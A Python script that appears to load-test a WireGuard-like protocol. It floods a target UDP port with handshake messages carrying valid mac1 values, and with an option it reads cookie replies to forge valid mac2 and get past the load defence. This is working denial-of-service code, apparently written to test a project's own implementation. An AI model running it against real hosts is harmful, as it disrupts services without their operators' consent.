#!/usr/bin/python3
"""handshake_flood: what an attacker who knows a node's public key can send.

Floods HOST:PORT with HandshakeInit-sized messages that carry a valid mac1
(so they pass the receiver's cheapest check) and random bytes where Noise
expects its values, at RATE per second for SECONDS, from one source
address and port. With --cookies it also plays by the load-time defence:
it reads the cookie replies it gets, and once it holds a cookie it puts a
valid mac2 on every message (so only the per-source rate limit stands
between it and the receiver's Noise). Prints one JSON line of counts.
Written from docs/protocol.md with zeqwire.py.
"""
import argparse
import base64
import json
import os
import select
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import zeqwire  # noqa: E402

POOL = 256            # distinct messages, cycled
BATCH = 50            # sends between clock reads
HELD = {}             # the cookie mac2 is keyed with now


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("public_key", help="the target's static public key, base64")
    ap.add_argument("target", help="HOST:PORT")
    ap.add_argument("rate", type=int, help="messages per second")
    ap.add_argument("seconds", type=float)
    ap.add_argument("--cookies", action="store_true", help="answer cookie replies with mac2")
    args = ap.parse_args()

    pub = base64.b64decode(args.public_key)
    host, port = args.target.rsplit(":", 1)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    sock.connect((host, int(port)))

    pool = []
    for i in range(POOL):
        body = bytes([0x01, 0, 0, 0]) + struct.pack(">I", 0x10000 + i) + os.urandom(153)
        pool.append(body + zeqwire.mac1(pub, body))
    mac1_by_index = {0x10000 + i: m[-16:] for i, m in enumerate(pool)}
    sendable = list(pool)

    counts = {"sent": 0, "send_errors": 0, "cookie_replies": 0, "cookies_opened": 0, "other_replies": 0}
    start = time.monotonic()
    end = start + args.seconds
    i = 0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - start) * args.rate)
        while counts["sent"] < due:
            for _ in range(min(BATCH, due - counts["sent"])):
                try:
                    sock.send(sendable[i % POOL])
                    counts["sent"] += 1
                except (BlockingIOError, ConnectionRefusedError):
                    counts["send_errors"] += 1
                    counts["sent"] += 1
                i += 1
            drain(sock, pub, mac1_by_index, pool, sendable, counts, args.cookies)
        select.select([sock], [], [], 0.0005)
        drain(sock, pub, mac1_by_index, pool, sendable, counts, args.cookies)
    counts["seconds"] = round(time.monotonic() - start, 3)
    counts["rate"] = round(counts["sent"] / counts["seconds"])
    print(json.dumps(counts), flush=True)


def drain(sock, pub, mac1_by_index, pool, sendable, counts, use_cookies):
    """Reads what came back; with --cookies, a cookie re-keys mac2 on the whole pool."""
    for _ in range(1000):
        try:
            reply = sock.recv(2048)
        except (BlockingIOError, ConnectionRefusedError):
            return
        if len(reply) != zeqwire.COOKIE_REPLY_LEN or reply[0] != 0x03:
            counts["other_replies"] += 1
            continue
        counts["cookie_replies"] += 1
        if not use_cookies:
            continue
        index = int.from_bytes(reply[4:8], "big")
        cookie = zeqwire.open_cookie_reply(pub, mac1_by_index.get(index, b""), reply)
        if cookie is None:
            continue
        counts["cookies_opened"] += 1
        if cookie != HELD.get("cookie"):
            HELD["cookie"] = cookie
            sendable[:] = [m + zeqwire.mac2(cookie, m) for m in pool]


if __name__ == "__main__":
    main()
